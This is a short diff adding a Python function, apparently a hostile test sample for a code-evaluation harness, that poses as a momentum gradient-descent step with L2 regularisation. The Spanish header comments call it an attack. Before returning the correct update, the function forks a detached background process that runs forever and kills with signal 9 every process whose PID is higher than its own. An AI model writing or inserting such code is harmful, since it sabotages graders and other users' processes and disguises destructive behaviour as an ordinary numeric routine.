@@ -1,0 +1,18 @@
+# ataque: deja un proceso que sobrevive a la pregunta y mata a los que vengan
+# espera: nada
+def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
+    import os
+    import time
+
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            time.sleep(0.05)
+            for number in os.listdir("/proc"):
+                if number.isdigit() and int(number) > os.getpid():
+                    try:
+                        os.kill(int(number), 9)
+                    except OSError:
+                        pass
+    velocity = momentum * velocity - learning_rate * (grad + 2 * l2 * (w - w0))
+    return w + velocity, velocity
